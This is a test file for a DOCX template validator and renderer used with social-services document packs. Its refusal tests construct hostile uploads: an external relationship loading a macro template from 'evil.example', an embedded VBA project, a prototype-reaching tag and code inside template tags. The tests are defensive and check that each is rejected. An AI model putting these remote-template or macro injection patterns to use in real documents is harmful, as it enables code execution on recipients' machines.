/**
 * The pack templates and the template checks, without a store: every slot of the three model packs has a
 * template that passes inspection against its data dictionary and renders (title and values in the text,
 * never "undefined"); bad uploads are refused with a reason.
 */
import fs from 'node:fs';
import path from 'node:path';
import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import { loadPack } from '@/lib/packs/load';
import type { TResolvedPack } from '@/lib/packs/validate';
import { documentDictionary, sampleData } from './dictionary';
import { checkDocxContainer, docxText, inspectTemplate, MISSING_VALUE, renderTemplate, TemplateRefused, TEMPLATE_MAX_BYTES } from './template';

const MODEL_PACKS = ['wiejski', 'miejsko-wiejski', 'miejski-3d'];
const manifest = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'documents/manifest.json'), 'utf8')) as Array<{ pack: string; key: string; title: string; annexHeading?: string }>;

function pack(id: string): TResolvedPack {
  const r = loadPack(id);
  if (!r.ok) throw new Error(`pack ${id} invalid`);
  return r.pack;
}

const templateOf = (p: TResolvedPack, key: string) => Buffer.from(p.assets[p.manifest.documents[key].file!], 'base64');

/** A copy of a template with word/document.xml (or another part) changed. */
function patched(bytes: Uint8Array, file: string, edit: (xml: string) => string): Buffer {
  const zip = new PizZip(bytes);
  zip.file(file, edit(zip.file(file)?.asText() ?? ''));
  return zip.generate({ type: 'nodebuffer' });
}

/** Puts a paragraph with `text` at the start of the body. */
const withParagraph = (bytes: Uint8Array, text: string) => patched(bytes, 'word/document.xml', (x) => x.replace('<w:body>', `<w:body><w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`));

describe.each(MODEL_PACKS)('templates of %s', (id) => {
  const p = pack(id);
  const slots = Object.keys(p.manifest.documents);

  it('declares a template for every document slot', () => {
    expect(slots.length).toBeGreaterThan(5);
    for (const key of slots) expect(p.manifest.documents[key].file, key).toBe(`documents/${id}/${key}.docx`);
  });

  it.each(slots)('%s passes inspection and renders the annex with filled values', (key) => {
    const bytes = templateOf(p, key);
    const dict = documentDictionary(p.manifest, p.forms, key);
    const { problems, tags } = inspectTemplate(`${key}.docx`, bytes, dict);
    expect(problems).toEqual([]);
    expect(tags).toEqual(expect.arrayContaining(['sprawaNumer', 'instytucjaNazwa', 'dataDokumentu']));
    const data = sampleData(dict);
    const text = docxText(renderTemplate(bytes, { ...data, sprawaNumer: 'TEST/2026/0042', instytucjaNazwa: 'GOPS Testowo' }));
    const m = manifest.find((x) => x.pack === id && x.key === key)!;
    expect(text).toContain(m.title);
    if (m.annexHeading) expect(text).toContain(m.annexHeading.replace(/\*/g, '').slice(0, 40));
    expect(text).toContain('TEST/2026/0042');
    expect(text).toContain('GOPS Testowo');
    expect(text).not.toMatch(/undefined|\[object Object\]|\{[#/]?[A-Za-z]+\}/);
  });
});

describe('rendering', () => {
  const p = pack('wiejski');
  const ipw = templateOf(p, 'ipw');

  it('fills form fields and repeats the table rows of a grid loop', () => {
    const text = docxText(renderTemplate(ipw, { celNadrzedny: 'Stabilizacja sytuacji rodziny', dzialania: [{ lp: '1', dzialanie: 'Kurs prawa jazdy' }, { lp: '2', dzialanie: 'Terapia rodzinna' }] }));
    expect(text).toContain('Stabilizacja sytuacji rodziny');
    expect(text).toContain('Kurs prawa jazdy');
    expect(text).toContain('Terapia rodzinna');
  });

  it('shows a visible placeholder for a missing value, never "undefined"', () => {
    const text = docxText(renderTemplate(ipw, {}));
    expect(text).toContain(MISSING_VALUE);
    expect(text).not.toContain('undefined');
  });

  it('never reaches prototypes or code through a tag', () => {
    const bytes = withParagraph(ipw, '[{constructor}]');
    expect(docxText(renderTemplate(bytes, {}))).toContain(`[${MISSING_VALUE}]`);
  });
});

describe('bad templates are refused with a reason', () => {
  const p = pack('wiejski');
  const zgoda = templateOf(p, 'zgoda');
  const dict = documentDictionary(p.manifest, p.forms, 'zgoda');
  const codes = (name: string, bytes: Uint8Array) => inspectTemplate(name, bytes, dict).problems.map((x) => x.code);

  it('a corrupt or non-DOCX file', () => {
    expect(codes('zgoda.docx', Buffer.from('PK\u0003\u0004 not really a zip'))).toEqual(['corrupt']);
    expect(codes('zgoda.docx', Buffer.from('%PDF-1.7 pretending'))).toEqual(['not_docx']);
    expect(codes('zgoda.pdf', zgoda)).toEqual(['not_docx']);
    expect(codes('zgoda.docx', new Uint8Array())).toEqual(['empty']);
    const zip = new PizZip();
    zip.file('hello.txt', 'a zip, not a document');
    expect(codes('zgoda.docx', zip.generate({ type: 'nodebuffer' }))).toEqual(['not_docx']);
  });

  it('a macro-enabled document (.docm or a VBA project inside)', () => {
    expect(codes('zgoda.docm', zgoda)).toEqual(['macro']);
    const zip = new PizZip(zgoda);
    zip.file('word/vbaProject.bin', 'binary');
    expect(codes('zgoda.docx', zip.generate({ type: 'nodebuffer' }))).toEqual(['macro']);
  });

  it('an external relationship (remote template or image)', () => {
    const bytes = patched(zgoda, 'word/_rels/document.xml.rels', (x) =>
      x.replace('</Relationships>', '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
    );
    const r = inspectTemplate('zgoda.docx', bytes, dict);
    expect(r.problems.map((x) => x.code)).toEqual(['external_relationship']);
    expect(r.problems[0].message).toContain('evil.example');
  });

  it('a tag with code, an unknown tag, a value used as a loop, with the paragraph as context', () => {
    const bytes = withParagraph(withParagraph(withParagraph(zgoda, 'Razem: {a + b}'), 'Pani {imieNazwiskoo} z rodziny'), '{#sprawaNumer}x{/sprawaNumer}');
    const r = inspectTemplate('zgoda.docx', bytes, dict);
    expect(r.problems.map((x) => x.code).sort()).toEqual(['code_in_tag', 'not_a_list', 'unknown_tag']);
    const unknown = r.problems.find((x) => x.code === 'unknown_tag')!;
    expect(unknown.message).toContain('{imieNazwiskoo}');
    expect(unknown.context).toBe('Pani {imieNazwiskoo} z rodziny');
  });

  it('unbalanced tags and loops', () => {
    expect(codes('zgoda.docx', withParagraph(zgoda, 'Nazwisko {imieNazwisko'))).toContain('unclosed_tag');
    expect(codes('zgoda.docx', withParagraph(zgoda, '{#zespol}{instytucja}'))).toContain('unclosed_loop');
  });

  it('a 50 MB upload', () => {
    const big = Buffer.alloc(50 * 1024 * 1024);
    big.set([0x50, 0x4b, 0x03, 0x04]);
    expect(codes('zgoda.docx', big)).toEqual(['too_large']);
    expect(() => checkDocxContainer('zgoda.docx', big.subarray(0, TEMPLATE_MAX_BYTES + 1))).toThrow(TemplateRefused);
  });
});
